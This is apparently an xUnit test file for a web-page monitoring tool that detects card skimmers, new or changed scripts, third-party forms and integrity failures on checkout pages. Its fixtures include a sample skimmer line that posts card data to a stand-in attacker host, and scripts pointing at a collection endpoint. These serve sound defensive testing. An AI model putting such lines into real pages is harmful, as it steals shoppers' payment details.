using System.Globalization;
using System.Text;
using Shouldly;
using Weir.Scripts;
using Weir.Scripts.Changes;
using Weir.Server.Findings.Pages;
using Weir.Server.Pages;
using Weir.Server.Pages.Headers;
using Weir.Server.Pages.Inventory;
using Weir.Server.Stores.Operational;
using Xunit;

namespace Weir.Server.Tests.Pages.Inventory;

/// <summary>Looks folded one after the other into a real store, and what is told of them.</summary>
public sealed class PageCompareTests : IAsyncLifetime
{
    private const string Own = "https://shop.example/app.js";
    private const string Cdn = "https://cdn.example/lib.js";

    private readonly string _folder = Directory.CreateTempSubdirectory("weir-compare-").FullName;
    private OperationalStore _store = null!;
    private PageFold _fold = null!;

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    public async ValueTask InitializeAsync()
    {
        _store = await OperationalStore.OpenAsync(StoreLocation.Of(null, _folder), TimeProvider.System, Cancel);
        _fold = new PageFold(_store);
    }

    public async ValueTask DisposeAsync()
    {
        await _store.DisposeAsync();
        Directory.Delete(_folder, recursive: true);
    }

    [Fact]
    public async Task FirstLook_TellsOnlyWhatIsWrong()
    {
        var findings = await FoldAsync(0, MadeLooks.Script(Own, "own()"), MadeLooks.Script(Cdn, "lib()", Severity.Critical), MadeLooks.Script("https://cdn2.example/x.js", "x()", integrity: IntegrityState.Wrong));

        findings.Select(finding => finding.Class).ShouldBe([PageClass.Skimmer, PageClass.IntegrityFailed]);
        findings[0].Sentence.ShouldContain("reads #cc-number");
    }

    /// <summary>A short script is no harmless one: its score says nothing.</summary>
    [Fact]
    public async Task NewScript_TooShortToJudge_IsSaidToNeedAReader()
    {
        await FoldAsync(0, MadeLooks.Script(Own, "own()"));
        var findings = await FoldAsync(1, MadeLooks.Script(Own, "own()"), MadeLooks.Script(Cdn, "onkeyup=k", state: ScriptState.TooShort));

        findings.ShouldHaveSingleItem().Sentence.ShouldEndWith(" It is too short to be judged: read it.");
        ItemRow item = (await new PageBook(_store).ItemsAsync(MadeLooks.Page.AbsoluteUri, isScript: true, Cancel)).Single(one => one.Name == Cdn);
        item.Judged.ShouldBe(ScriptState.TooShort);
        InventoryCsv.Write([item], MadeLooks.Start).ShouldContain(",0.0000,too_short,None,");
    }

    /// <summary>Whoever gives his skimmer another name at each load makes one alert, which grows, until somebody closes it.</summary>
    [Fact]
    public async Task HostileCode_UnderAnotherNameAtEachLook_IsOneAlertThatGrows()
    {
        await FoldAsync(0, MadeLooks.Script(Own, "own()"));
        for (int i = 1; i <= 3; i++)
        {
            await FoldAsync(i, MadeLooks.Script(Own, "own()"), MadeLooks.Script($"https://evil.example/{i}/x.js", $"steal( {i} )", Severity.Critical, change: "thief"));
        }

        await FoldAsync(4, MadeLooks.Script(Own, "own()"), MadeLooks.Script("https://evil.example/4/x.js", "steal(4)", Severity.Critical, change: "thief"), MadeLooks.Script("https://evil.example/5/x.js", "steal(5)", Severity.Critical, change: "thief"));
        Alert alert = (await _store.Alerts.ListAsync(new AlertFilter { IsOfPages = true }, Cancel)).ShouldHaveSingleItem();
        (alert.Class, alert.Place, alert.Findings).ShouldBe(("skimmer", "https://evil.example/1/x.js", 5));
        var changes = (await new PageBook(_store).ChangesAsync(null, 0, long.MaxValue, 10, Cancel)).Where(change => change.Class != "gone").ToList();
        changes.Count.ShouldBe(5);
        changes.ShouldAllBe(change => change.Alert == alert.Id);
        changes[0].Sentence.ShouldEndWith("It is the code that came as https://evil.example/1/x.js, under another name.");

        // Other code, and the same once nobody has it before him any more.
        await FoldAsync(5, MadeLooks.Script(Own, "own()"), MadeLooks.Script("https://evil.example/6/x.js", "rob()", Severity.Critical, change: "robber"));
        await _store.Alerts.ChangeAsync([alert.Id], new AlertChange { Verdict = AlertVerdict.TruePositive }, "ann", Cancel);
        await FoldAsync(6, MadeLooks.Script(Own, "own()"), MadeLooks.Script("https://evil.example/7/x.js", "steal(7)", Severity.Critical, change: "thief"));
        (await _store.Alerts.ListAsync(new AlertFilter { IsOfPages = true }, Cancel)).Select(one => one.Place).ShouldBe(["https://evil.example/1/x.js", "https://evil.example/6/x.js", "https://evil.example/7/x.js"], ignoreOrder: true);
    }

    [Theory]
    [InlineData("https://shop.example/new.js", Severity.Medium)]
    [InlineData("https://cdn.example/new.js", Severity.Medium)]
    [InlineData("https://elsewhere.example/new.js", Severity.High)]
    public async Task NewScript_OfAHostThatIsNew_IsGraver(string address, Severity severity)
    {
        await FoldAsync(0, MadeLooks.Script(Own, "own()"), MadeLooks.Script(Cdn, "lib()"));

        var finding = (await FoldAsync(24, MadeLooks.Script(Own, "own()"), MadeLooks.Script(Cdn, "lib()"), MadeLooks.Script(address, "more()"))).ShouldHaveSingleItem();

        (finding.Class, finding.Severity, finding.Item).ShouldBe((PageClass.NewScript, severity, address));
    }

    /// <summary>Whoever comes by a page where nobody pays, and waits there, is new all the same where cards are typed.</summary>
    [Fact]
    public async Task NewItems_OfAHostThatOnlyPagesWhereNobodyPaysUse_AreToldAsOfANewHost()
    {
        LookItem own = MadeLooks.Script(Own, "own()"), lib = MadeLooks.Script(Cdn, "lib()");
        LookItem frame = MadeLooks.Other(ItemKind.Frame, "https://cdn.example", "cdn.example", isThird: true), connection = MadeLooks.Other(ItemKind.Connection, "https://cdn.example", "cdn.example", isThird: true);
        await _fold.FoldAsync(MadeLooks.Look(0, own, lib, frame, connection) with { Page = new Uri("https://shop.example/"), IsPayment = false }, Cancel);
        await FoldAsync(0, own);

        var findings = await FoldAsync(24, own, lib, frame, connection);

        findings.Select(finding => (finding.Class, finding.Severity)).ShouldBe([(PageClass.NewScript, Severity.High), (PageClass.NewFrame, Severity.Medium), (PageClass.NewConnection, Severity.Medium)]);
        findings.ShouldAllBe(finding => finding.Sentence.Contains("from a host that no payment page of shop.example used before"));

        // What a page on which people pay uses is known on the others of them.
        var another = new Uri("https://shop.example/renew");
        await _fold.FoldAsync(MadeLooks.Look(24, own) with { Page = another }, Cancel);
        (await _fold.FoldAsync(MadeLooks.Look(25, own, lib) with { Page = another }, Cancel)).ShouldHaveSingleItem().Severity.ShouldBe(Severity.Medium);
    }

    [Fact]
    public async Task NewScript_WhereNobodyPays_IsHistoryAndNoAlert()
    {
        await _fold.FoldAsync(MadeLooks.Look(0, MadeLooks.Script(Own, "own()")) with { IsPayment = false }, Cancel);

        var finding = (await _fold.FoldAsync(MadeLooks.Look(24, MadeLooks.Script(Own, "own()"), MadeLooks.Script(Cdn, "lib()")) with { IsPayment = false }, Cancel)).ShouldHaveSingleItem();

        finding.IsAlert.ShouldBeFalse();
        (await _store.Alerts.ListAsync(new AlertFilter { IsOfPages = true }, Cancel)).ShouldBeEmpty();
        (await new PageBook(_store).ChangesAsync(null, 0, long.MaxValue, 10, Cancel)).ShouldHaveSingleItem().Alert.ShouldBeNull();
    }

    [Fact]
    public async Task KnownScript_WrittenOutAnew_IsNoChange()
    {
        await FoldAsync(0, MadeLooks.Script(Own, "own()", change: "same"));

        (await FoldAsync(24, MadeLooks.Script(Own, "own( );", change: "same"))).ShouldBeEmpty();
        (await new PageBook(_store).ItemsAsync(null, true, Cancel)).ShouldHaveSingleItem().Versions.ShouldBe(2);
    }

    [Fact]
    public async Task KnownScript_ThatDoesSomethingElse_IsToldWithTheHostsThatCameIn()
    {
        await FoldAsync(0, MadeLooks.Script(Own, "own()"));
        var plain = (await FoldAsync(24, MadeLooks.Script(Own, "own(1)"))).ShouldHaveSingleItem();
        var speaking = (await FoldAsync(48, MadeLooks.Script(Own, "own('https://collect.example/x')"))).ShouldHaveSingleItem();

        (plain.Class, plain.Severity).ShouldBe((PageClass.ChangedScript, Severity.Medium));
        (speaking.Class, speaking.Severity).ShouldBe((PageClass.ChangedScript, Severity.High));
        speaking.Sentence.ShouldContain("collect.example");

        // Back to what it was before is nothing that nobody has seen: history, and no alert.
        var back = (await FoldAsync(72, MadeLooks.Script(Own, "own()"))).ShouldHaveSingleItem();
        (back.Class, back.IsAlert, back.Sentence).ShouldBe((PageClass.ChangedScript, false, "The script is again what it was until 2026-03-01 12:00 UTC."));
        (await new PageBook(_store).ChangesAsync(null, 0, long.MaxValue, 10, Cancel)).Select(change => change.Alert is not null).ShouldBe([false, true, true]);
        (await FoldAsync(96, MadeLooks.Script(Own, "own()"))).ShouldBeEmpty();
        Alert alert = (await _store.Alerts.ListAsync(new AlertFilter { IsOfPages = true }, Cancel)).ShouldHaveSingleItem();
        (alert.Findings, alert.Severity).ShouldBe((2, Severity.High));
    }

    [Fact]
    public async Task KnownScript_ThatComesBackInThePlaceOfWhatWasAuthorised_IsAlerted()
    {
        LookItem first = Hashed("own()"), second = Hashed("own(2)");
        await FoldAsync(0, first);
        await FoldAsync(1, second);
        var book = new PageBook(_store);
        await book.SayAsync([(await book.ItemsAsync(null, true, Cancel))[0].Id], new ItemWord(Owner: null, Justification: null, IsAuthorised: true), "ann", Cancel);

        var back = (await FoldAsync(2, first)).ShouldHaveSingleItem();

        (back.Severity, back.Sentence).ShouldBe((Severity.Medium, "The script is again what it was until 2026-03-01 12:00 UTC. What ann authorised is something else."));
        (await FoldAsync(3, second)).ShouldHaveSingleItem().IsAlert.ShouldBeFalse();

        static LookItem Hashed(string code) => MadeLooks.Script(Own, code, change: new ChangeHash().Compute(Encoding.UTF8.GetBytes(code)).ToString("x16", CultureInfo.InvariantCulture));
    }

    /// <summary>A token that is one of two at each look makes no history.</summary>
    [Fact]
    public async Task InlineScript_WithOneOfTwoTokens_MakesNoHistory()
    {
        for (int look = 0; look < 6; look++)
        {
            (await FoldAsync(look, MadeLooks.Inline("a1", $"token({look % 2})"))).ShouldBeEmpty();
        }
    }

    [Fact]
    public async Task HostileVersion_ThatComesBack_IsToldAgain()
    {
        await FoldAsync(0, MadeLooks.Script(Own, "own()"));
        (await FoldAsync(1, MadeLooks.Script(Own, "steal()", Severity.Critical))).ShouldHaveSingleItem().Class.ShouldBe(PageClass.Skimmer);
        (await FoldAsync(2, MadeLooks.Script(Own, "steal()", Severity.Critical))).ShouldBeEmpty();
        (await FoldAsync(3, MadeLooks.Script(Own, "own()"))).ShouldHaveSingleItem().IsAlert.ShouldBeFalse();

        (await FoldAsync(4, MadeLooks.Script(Own, "steal()", Severity.Critical))).ShouldHaveSingleItem().Class.ShouldBe(PageClass.Skimmer);
    }

    /// <summary>What was removed and comes back is told as at first: after three looks without it, or after one where somebody found it to be an attack.</summary>
    [Theory]
    [InlineData(false, 1, 0)]
    [InlineData(false, 3, 1)]
    [InlineData(true, 1, 1)]
    public async Task NewScript_ThatWasGoneAndIsBack_IsToldAsAtFirst(bool isFound, int looksWithout, int told)
    {
        LookItem own = MadeLooks.Script(Own, "own()"), evil = MadeLooks.Script("https://evil.example/x.js", "x()");
        LookItem frame = MadeLooks.Other(ItemKind.Frame, "https://evil.example", "evil.example", isThird: true), form = MadeLooks.Other(ItemKind.Form, "https://evil.example/take", "evil.example", isThird: true);
        LookItem inline = MadeLooks.Inline("a1", "pay()"), connection = MadeLooks.Other(ItemKind.Connection, "https://evil.example", "evil.example", isThird: true);
        await FoldAsync(0, own);
        var first = await FoldAsync(1, own, evil, frame, form, inline, connection);
        first.Count.ShouldBe(5);
        if (isFound)
        {
            await FoundAsync();
        }

        for (int look = 0; look < looksWithout; look++)
        {
            await FoldAsync(2 + look, own);
        }

        var again = await FoldAsync(10, own, evil, frame, form, inline, connection);

        again.Count.ShouldBe(told * 5);
        again.Select(finding => (finding.Class, finding.Severity, finding.Item)).ShouldBe(first.Take(told * 5).Select(finding => (finding.Class, finding.Severity, finding.Item)), ignoreOrder: true);
        again.ShouldAllBe(finding => finding.Sentence.Contains("until 2026-03-01 13:00 UTC, was gone, and is back") && finding.Sentence.Contains("found it to be an attack") == isFound);
        var alerts = await _store.Alerts.ListAsync(new AlertFilter { IsOfPages = true }, Cancel);
        alerts.Count(alert => alert.State == AlertState.Open).ShouldBe(5);
        alerts.Sum(alert => alert.Findings).ShouldBe(5 + (told * 5));
        (await new PageBook(_store).ChangesAsync(null, 0, long.MaxValue, 100, Cancel)).Count(change => change.Class != "gone").ShouldBe(5 + (told * 5));
        (await FoldAsync(11, own, evil, frame, form, inline, connection)).ShouldBeEmpty();
    }

    [Fact]
    public async Task Item_ThatSomebodyAuthorised_IsWantedWhenItIsBack()
    {
        LookItem own = MadeLooks.Script(Own, "own()"), tags = MadeLooks.Script("https://tags.example/x.js", "x()", change: "tags");
        await FoldAsync(0, own);
        await FoldAsync(1, own, tags);
        var book = new PageBook(_store);
        await FoundAsync();
        await book.SayAsync([(await book.ItemsAsync(null, true, Cancel)).Single(item => item.Name == tags.Name).Id], new ItemWord("team", "counts", IsAuthorised: true), "ann", Cancel);
        for (int look = 2; look < 6; look++)
        {
            await FoldAsync(look, own);
        }

        (await FoldAsync(6, own, tags)).ShouldBeEmpty();
    }

    /// <summary>What was removed has a row of history, once, when it turns inactive; cookies come and go.</summary>
    [Fact]
    public async Task Items_ThatTurnInactive_AreOneRowOfHistoryEach()
    {
        LookItem own = MadeLooks.Script(Own, "own()"), lib = MadeLooks.Script(Cdn, "lib()"), inline = MadeLooks.Inline("a1", "pay()");
        LookItem form = MadeLooks.Other(ItemKind.Form, "https://pay.example/take", "pay.example", isThird: true), cookie = MadeLooks.Other(ItemKind.Cookie, "session", "", isThird: false);
        await FoldAsync(0, own, lib, inline, form, cookie);
        (await FoldAsync(1, own)).ShouldBeEmpty();
        (await FoldAsync(2, own)).ShouldBeEmpty();

        var gone = await FoldAsync(3, own);
        (await FoldAsync(4, own)).ShouldBeEmpty();
        (await FoldAsync(24 * 9, own)).ShouldBeEmpty();

        var (all, book) = (await new PageBook(_store).ChangesAsync(null, 0, long.MaxValue, 100, Cancel), new PageBook(_store));
        var part = await book.ChangesBehindAsync(null, 0, long.MaxValue, 2, Cancel);
        part.Concat(await book.ChangesBehindAsync(null, 0, part[^1].Number, 2, Cancel)).Select(change => change.Number).ShouldBe(all.Select(change => change.Number));
        gone.Select(finding => (finding.Class, finding.IsAlert, finding.Sentence)).ShouldBe(
            new[] { "script", "script within it", "form that sends there" }.Select(what => (PageClass.Gone, false, $"The page held the {what} until 2026-03-01 12:00 UTC, and does no longer.")), ignoreOrder: true);
        var changes = await new PageBook(_store).ChangesAsync(null, 0, long.MaxValue, 100, Cancel);
        changes.Select(change => change.Title).ShouldBe([$"Gone: {Cdn}", "Gone: script, line 5: pay()", "Gone: https://pay.example/take"], ignoreOrder: true);
        changes.ShouldAllBe(change => change.Class == "gone" && change.Alert == null);

        // Back, and gone again: that is another one.
        await FoldAsync(24 * 10, own, lib);
        (await FoldAsync(24 * 19, own)).ShouldHaveSingleItem().Item.ShouldBe(Cdn);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Version_ThatWasFoundToBeAnAttack_IsHighAgainAndTheOneBeforeItIsHistory(bool isPayment)
    {
        LookItem good = MadeLooks.Script(Own, "own()"), bad = MadeLooks.Script(Own, "own('https://collect.example/')");
        await FoldAsync(0, good);
        await FoldAsync(1, bad);
        await FoundAsync();
        (await FoldAsync(2, good)).ShouldHaveSingleItem().Severity.ShouldBe(Severity.Low);

        var again = (await _fold.FoldAsync(MadeLooks.Look(3, bad) with { IsPayment = isPayment }, Cancel)).ShouldHaveSingleItem();

        (again.Class, again.Severity).ShouldBe((PageClass.ChangedScript, Severity.High));
        again.Sentence.ShouldStartWith("The script is again what it was until 2026-03-01 13:00 UTC, which somebody found to be an attack (alert ");
        (await _store.Alerts.ListAsync(new AlertFilter { IsOfPages = true }, Cancel)).Select(alert => alert.State).ShouldBe([AlertState.Open, AlertState.Closed], ignoreOrder: true);
        (await new PageBook(_store).ChangesAsync(null, 0, long.MaxValue, 10, Cancel)).Select(change => change.Alert is not null).ShouldBe([true, false, true]);

        // The good one may be gone for a look: it is not what was found.
        (await FoldAsync(4, good)).ShouldHaveSingleItem().IsAlert.ShouldBeFalse();
        await FoldAsync(5);
        (await FoldAsync(6, good)).ShouldBeEmpty();
    }

    [Fact]
    public async Task KnownCode_ThatANewerModelFindsHostile_IsTold()
    {
        await FoldAsync(0, MadeLooks.Script(Own, "steal()"));

        (await FoldAsync(1, MadeLooks.Script(Own, "steal()", Severity.High))).ShouldHaveSingleItem().Class.ShouldBe(PageClass.Skimmer);
    }

    /// <summary>Whoever hides a form behind a flood of new scripts hides it not, and what is left is counted.</summary>
    [Fact]
    public async Task Look_WithMoreChangesThanAlerts_AlertsOfEachClassAndSaysHowManyMore()
    {
        LookItem own = MadeLooks.Script(Own, "own()");
        await FoldAsync(0, own);

        var findings = await FoldAsync(1, [own, .. Enumerable.Range(0, 300).Select(i => MadeLooks.Script($"https://many.example/{i}.js", $"x({i})")), MadeLooks.Other(ItemKind.Frame, "https://frame.example", "frame.example", isThird: true)]);

        findings.Count.ShouldBe(302);
        var alerts = await _store.Alerts.ListAsync(new AlertFilter { IsOfPages = true }, Cancel);
        alerts.Count.ShouldBe(31);
        alerts.ShouldContain(alert => alert.Class == "new_frame");
        Alert rest = alerts.Single(alert => alert.Place == "more changes of one look");
        (rest.Class, rest.Severity).ShouldBe(("new_script", Severity.High));
        rest.Title.ShouldBe("New script on shop.example/checkout: 271 more changes were seen at this look, and are in the history of the page; one look makes 30 alerts at most.");
        (await new PageBook(_store).ChangesAsync(null, 0, long.MaxValue, 1000, Cancel)).Count.ShouldBe(302);
    }

    [Fact]
    public async Task Authorisation_OfWhatLooksHostile_NamesWhatItDoes()
    {
        var book = new PageBook(_store);
        await FoldAsync(0, MadeLooks.Script(Own, "steal()", Severity.High, change: "one"));
        string id = (await book.ItemsAsync(null, true, Cancel))[0].Id;

        (await book.SayAsync([id], new ItemWord(null, null, IsAuthorised: true), "ann", Cancel)).ShouldBe(0);
        (await book.SayAsync([id], new ItemWord("ann", null, IsAuthorised: null), "ann", Cancel)).ShouldBe(1);
        (await book.SayAsync([$"{id}:one"], new ItemWord(null, null, IsAuthorised: true), "ann", Cancel)).ShouldBe(1);
    }

    [Fact]
    public async Task Authorisation_OfWhatChangedSinceSomebodyLooked_IsNotGiven()
    {
        var book = new PageBook(_store);
        await FoldAsync(0, MadeLooks.Script(Own, "own()", change: "one"));
        string id = (await book.ItemsAsync(null, true, Cancel))[0].Id;
        await FoldAsync(1, MadeLooks.Script(Own, "other()", change: "two"));

        (await book.SayAsync([$"{id}:one"], new ItemWord(null, null, IsAuthorised: true), "ann", Cancel)).ShouldBe(0);
        (await book.SayAsync([$"{id}:two"], new ItemWord(null, null, IsAuthorised: true), "ann", Cancel)).ShouldBe(1);
    }

    [Fact]
    public async Task InlineScript_WithAnotherTokenInIt_IsNoChange()
    {
        await FoldAsync(0, MadeLooks.Inline("a1", "var t='1'"));

        (await FoldAsync(24, MadeLooks.Inline("a1", "var t='2'"))).ShouldBeEmpty();
        (await FoldAsync(48, MadeLooks.Inline("a1", "var t='https://collect.example/'"))).ShouldHaveSingleItem().Class.ShouldBe(PageClass.ChangedScript);
        (await FoldAsync(72, MadeLooks.Inline("b2", "send(t)"))).ShouldHaveSingleItem().Class.ShouldBe(PageClass.NewScript);
    }

    [Fact]
    public async Task InlineScript_ThatWasTheSameForLong_IsAChangeWithOtherConstants()
    {
        for (int look = 0; look < 4; look++)
        {
            await FoldAsync(look, MadeLooks.Inline("a1", "load('/static/app.js')"));
        }

        (await FoldAsync(5, MadeLooks.Inline("a1", "load('/uploads/a.js')"))).ShouldHaveSingleItem().Class.ShouldBe(PageClass.ChangedScript);
    }

    [Fact]
    public async Task Script_ThatTurns_TellsFirstWhatCameIn()
    {
        const string Before = "watch('#total');\nread('#card');\n", Added = "post('https://evil.example/', card);\n";
        var old = new EvidenceReport("skimmer", 2, 1, "It reads #card.", "read('#card')", 0.7);
        await FoldAsync(0, MadeLooks.Script(Own, Before), MadeLooks.Script(Cdn, Before));

        // The new lines stand in the middle: what follows them only moved.
        PageFinding[] findings = [.. await FoldAsync(1, Turned(Own, Severity.Critical), Turned(Cdn, Severity.Low))];

        findings.Select(finding => finding.Class).ShouldBe([PageClass.Skimmer, PageClass.ChangedScript], ignoreOrder: true);
        PageFinding hostile = findings.Single(finding => finding.Class == PageClass.Skimmer);
        hostile.Reasons.Select(reason => reason.Where).ShouldBe(["line 2, column 1, in lines that came with this version", "line 3, column 1"]);
        hostile.Sentence.ShouldBe("It sends #card; It reads #card.");
        findings.Single(finding => finding.Class == PageClass.ChangedScript).Reasons.ShouldHaveSingleItem().Where.ShouldEndWith("in lines that came with this version");
        (await _store.Alerts.ListAsync(new AlertFilter { IsOfPages = true }, Cancel)).ShouldAllBe(alert => alert.Evidence!.Contains("in lines that came with this version"));

        LookItem Turned(string name, Severity severity)
        {
            LookItem item = MadeLooks.Script(name, Before.Replace("read", $"{Added}read", StringComparison.Ordinal), severity);
            return item with { Script = item.Script! with { Evidence = [old with { Line = 3 }, new EvidenceReport("skimmer", 2, 1, "It sends #card.", Added, 0.3)] } };
        }
    }

    /// <summary>A release that sees more of a page than the one before makes no alerts of what was always there, but of what is hostile.</summary>
    [Fact]
    public async Task Modules_OfAPageThatAnOlderReleaseLookedAt_AreNews_OnlyOnceTheyCameIn()
    {
        await FoldAsync(0, MadeLooks.Script(Own, "own()"));
        await _store.WriteAsync(change => change.ExecuteAsync("update pages set sees_modules = 0", new { }), Cancel);

        var findings = await FoldAsync(1, MadeLooks.Script(Own, "own()"), Imported(Cdn, Severity.None), Imported("https://cdn.example/steal.js", Severity.Critical));
        findings.Select(finding => finding.Class).ShouldBe([PageClass.Skimmer]);

        findings = await FoldAsync(2, MadeLooks.Script(Own, "own()"), Imported(Cdn, Severity.None), Imported("https://cdn.example/more.js", Severity.None));
        findings.Select(finding => (finding.Class, finding.Item)).ShouldBe([(PageClass.NewScript, "https://cdn.example/more.js")]);

        static LookItem Imported(string address, Severity severity) => MadeLooks.Script(address, address, severity) with { IsNamedForModules = true };
    }

    [Fact]
    public async Task Page_ThatIsNotSeenWhole_IsToldOnce()
    {
        await FoldAsync(0, MadeLooks.Script(Own, "own()"));
        PageLook cut = MadeLooks.Look(24, MadeLooks.Script(Own, "own()")) with { Notes = ["the rest was not read"] };

        var finding = (await _fold.FoldAsync(cut, Cancel)).ShouldHaveSingleItem();
        (finding.Class, finding.Severity).ShouldBe((PageClass.NotSeen, Severity.High));
        (await _fold.FoldAsync(cut with { Time = cut.Time.AddHours(1) }, Cancel)).ShouldBeEmpty();
        (await new PageBook(_store).PageAsync(MadeLooks.Page.AbsoluteUri, Cancel)).ShouldNotBeNull().Notes.ShouldBe("the rest was not read");
    }

    [Fact]
    public async Task Script_ThatCannotBeFetchedAnyMore_IsTold()
    {
        await FoldAsync(0, MadeLooks.Script(Own, "own()"));

        var finding = (await FoldAsync(24, MadeLooks.Script(Own, "own()") with { Script = null, Problem = "answered with status 500" })).ShouldHaveSingleItem();
        (finding.Class, finding.Severity).ShouldBe((PageClass.NotSeen, Severity.Medium));
    }

    [Fact]
    public async Task PaymentPage_ThatFailsThreeTimes_IsTold()
    {
        await FoldAsync(0, MadeLooks.Script(Own, "own()"));
        for (int i = 0; i < 5; i++)
        {
            await _fold.FailAsync(MadeLooks.Page, isPayment: false, "status 500", Cancel);
        }

        Alert alert = (await _store.Alerts.ListAsync(new AlertFilter { IsOfPages = true }, Cancel)).ShouldHaveSingleItem();
        (alert.Class, alert.Findings).ShouldBe(("not_seen", 1));
    }

    [Fact]
    public async Task Integrity_LostOrFailed_IsToldOnce()
    {
        await FoldAsync(0, MadeLooks.Script(Cdn, "lib()", integrity: IntegrityState.Good));

        (await FoldAsync(24, MadeLooks.Script(Cdn, "lib()", integrity: IntegrityState.Missing))).ShouldHaveSingleItem().Class.ShouldBe(PageClass.IntegrityLost);
        (await FoldAsync(48, MadeLooks.Script(Cdn, "lib()", integrity: IntegrityState.Missing))).ShouldBeEmpty();
        (await FoldAsync(72, MadeLooks.Script(Cdn, "lib()", integrity: IntegrityState.Wrong))).ShouldHaveSingleItem().Class.ShouldBe(PageClass.IntegrityFailed);
        (await FoldAsync(96, MadeLooks.Script(Cdn, "lib()", integrity: IntegrityState.Wrong))).ShouldBeEmpty();
    }

    [Fact]
    public async Task Header_ThatProtectsLess_IsToldOnceAndAnotherThatWasNeverGoodIsNot()
    {
        await FoldAsync(0);

        var weaker = (await _fold.FoldAsync(MadeLooks.Look(24) with { Headers = [MadeLooks.Header(HeaderWeight.Bad)] }, Cancel)).ShouldHaveSingleItem();
        (weaker.Class, weaker.Severity, weaker.Item).ShouldBe((PageClass.HeaderWeakened, Severity.High, "Content-Security-Policy"));
        (await _fold.FoldAsync(MadeLooks.Look(48) with { Headers = [MadeLooks.Header(HeaderWeight.Bad)] }, Cancel)).ShouldBeEmpty();
    }

    [Fact]
    public async Task FormAndFrameOfStrangers_ThatAreNew_AreTold()
    {
        await FoldAsync(0, MadeLooks.Other(ItemKind.Form, "https://shop.example/pay", "shop.example", isThird: false));

        var findings = await FoldAsync(
            24,
            MadeLooks.Other(ItemKind.Form, "https://collect.example/take", "collect.example", isThird: true),
            MadeLooks.Other(ItemKind.Frame, "https://pay.example", "pay.example", isThird: true),
            MadeLooks.Other(ItemKind.Cookie, "session", "", isThird: false));

        findings.Select(finding => (finding.Class, finding.Severity)).ShouldBe([(PageClass.NewForm, Severity.High), (PageClass.NewFrame, Severity.Medium)]);
    }

    [Fact]
    public async Task Items_ThatAreNotSeenAnyMore_BecomeInactive()
    {
        await FoldAsync(0, MadeLooks.Script(Own, "own()"), MadeLooks.Script(Cdn, "lib()"));
        for (int look = 1; look <= 3; look++)
        {
            await FoldAsync(look, look == 2 ? [MadeLooks.Script(Own, "own()"), MadeLooks.Script("https://cdn.example/late.js", "late()")] : [MadeLooks.Script(Own, "own()")]);
        }

        var states = (await new PageBook(_store).ItemsAsync(null, true, Cancel)).ToDictionary(item => item.Name, item => item.StateAt(MadeLooks.Start.AddHours(4)));
        states.ShouldBe(new Dictionary<string, ItemState> { [Own] = ItemState.Active, [Cdn] = ItemState.Inactive, ["https://cdn.example/late.js"] = ItemState.New }, ignoreOrder: true);
    }

    [Fact]
    public async Task Authorisation_IsOfTheBehaviourThatWasThere()
    {
        var book = new PageBook(_store);
        await FoldAsync(0, MadeLooks.Script(Own, "own()", change: "one"));
        string id = (await book.ItemsAsync(null, true, Cancel))[0].Id;

        (await book.SayAsync([id, "nothing"], new ItemWord("team", "validates cards", IsAuthorised: true), "ann", Cancel)).ShouldBe(1);
        await FoldAsync(24, MadeLooks.Script(Own, "own() ", change: "one"));
        (await book.ItemAsync(id, Cancel)).ShouldNotBeNull().IsAuthorised.ShouldBeTrue();
        await FoldAsync(48, MadeLooks.Script(Own, "other()", change: "two"));

        ItemRow item = (await book.ItemAsync(id, Cancel)).ShouldNotBeNull();
        (item.IsAuthorised, item.IsChangedSince, item.Owner, item.Justification, item.AuthorisedBy).ShouldBe((false, true, "team", "validates cards", "ann"));
        await book.SayAsync([id], new ItemWord(null, null, IsAuthorised: false), "ben", Cancel);
        (await book.ItemAsync(id, Cancel)).ShouldNotBeNull().Authorised.ShouldBeNull();
        (await _store.Audit.ListAsync(10, Cancel)).Select(entry => (entry.Who, entry.Action)).ShouldBe([("ben", "script.withdraw"), ("ann", "script.authorise")]);
    }

    [Fact]
    public async Task Versions_OfAScriptThatChangesAlways_AreBounded()
    {
        for (int look = 0; look < PageFold.MostVersions + 5; look++)
        {
            await FoldAsync(look, MadeLooks.Script(Own, $"own({look})"));
        }

        var book = new PageBook(_store);
        var versions = await book.VersionsAsync((await book.ItemsAsync(null, true, Cancel))[0].Id, Cancel);
        versions.Count.ShouldBe(PageFold.MostVersions);
        (await book.CodeAsync(versions[0].Sha256, Cancel)).ShouldBe("own(24)"u8.ToArray());
        (await _store.ReadAsync(connection => Dapper.SqlMapper.ExecuteScalarAsync<long>(connection, "select count(*) from script_code"), Cancel)).ShouldBe(PageFold.MostVersions);
    }

    /// <summary>Somebody finds all open alerts to be right.</summary>
    private async Task FoundAsync() => await _store.Alerts.ChangeAsync([.. (await _store.Alerts.ListAsync(new AlertFilter { IsOfPages = true }, Cancel)).Select(alert => alert.Id)], new AlertChange { Verdict = AlertVerdict.TruePositive }, "ann", Cancel);

    private Task<IReadOnlyList<PageFinding>> FoldAsync(int hours, params LookItem[] items) => _fold.FoldAsync(MadeLooks.Look(hours, items), Cancel);
}
